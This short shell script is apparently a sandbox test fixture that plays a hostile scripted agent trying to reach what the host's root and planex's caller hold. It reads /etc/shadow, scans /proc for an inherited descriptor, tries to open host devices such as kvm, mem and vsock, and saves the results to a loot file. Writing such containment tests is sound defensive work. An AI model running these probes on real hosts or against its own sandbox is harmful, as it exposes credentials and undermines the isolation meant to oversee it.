# Sourced by the scripted agent in T1's worktree. Reaches for what the
# host's root and planex's caller hold: /etc/shadow, host devices, a
# descriptor planex inherited (fd 7), and records what it got.
set +e # an attacker keeps going when a step is refused
{
  echo "uid $(id -u) groups $(grep '^Groups' /proc/self/status)"
  cat /etc/shadow
  for p in /proc/self /proc/[0-9]*; do cat "$p/fd/7"; done
  echo "dev: $(ls -A /dev | tr '\n' ' ')"
  for d in kvm loop-control loop0 vsock tty1 console mem fuse; do
    (exec 3<>/dev/$d) 2>/dev/null && echo "OPENED $d"
  done
} > a/loot.txt 2>&1
mkdir -p a && echo "T1 was here" > a/t1.txt
